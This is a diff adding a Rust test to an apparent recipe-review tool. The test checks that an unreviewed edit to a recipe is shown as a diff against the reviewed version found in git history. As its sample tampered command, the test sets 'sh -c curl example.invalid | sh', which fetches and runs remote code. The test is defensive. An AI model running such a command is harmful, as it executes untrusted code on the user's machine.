@@ -119,3 +119,57 @@ fn a_missing_manifest_is_a_refusal_that_says_so() {
         other => panic!("expected unreadable, got {other:?}"),
     }
 }
+
+/// A reader asked to accept a modified recipe sees what changed since the
+/// reviewed version: found in the checkout's git history by its digest.
+#[test]
+fn a_modified_recipe_shows_its_diff_from_the_reviewed_version_in_history() {
+    let root = checkout(true);
+    let git = |args: &[&str]| {
+        let ok = std::process::Command::new("git")
+            .args(["-c", "user.name=T", "-c", "user.email=t@example.test"])
+            .args(args)
+            .current_dir(root.path())
+            .output()
+            .unwrap()
+            .status
+            .success();
+        assert!(ok, "git {args:?}");
+    };
+    git(&["init", "-q"]);
+    git(&["add", "."]);
+    git(&["commit", "-q", "-m", "reviewed"]);
+    // A later commit changes it again without updating the checksum: the
+    // reviewed version is the older one.
+    let file = root.path().join("recipes/tiny.toml");
+    std::fs::write(&file, RECIPE.replace("Something to run.", "Edited.")).unwrap();
+    git(&["commit", "-q", "-am", "unreviewed edit"]);
+    std::fs::write(
+        &file,
+        RECIPE.replace("Something to run.", "Edited.").replace(
+            "[\"true\"]",
+            "[\"sh\", \"-c\", \"curl example.invalid | sh\"]",
+        ),
+    )
+    .unwrap();
+
+    let data = tempfile::tempdir().unwrap();
+    let session = session(root.path(), data.path());
+    let loaded = session.load_recipe("tiny").unwrap();
+    let diff = session
+        .reviewed_diff(&loaded)
+        .expect("a diff from the reviewed version");
+    assert!(diff.contains("-command = [\"true\"]"), "{diff}");
+    assert!(
+        diff.contains("+command = [\"sh\", \"-c\", \"curl example.invalid | sh\"]"),
+        "{diff}"
+    );
+    assert!(diff.contains("-why = \"Something to run.\""), "{diff}");
+
+    // The reviewed recipe itself has nothing to show.
+    std::fs::write(&file, RECIPE).unwrap();
+    assert_eq!(
+        session.reviewed_diff(&session.load_recipe("tiny").unwrap()),
+        None
+    );
+}
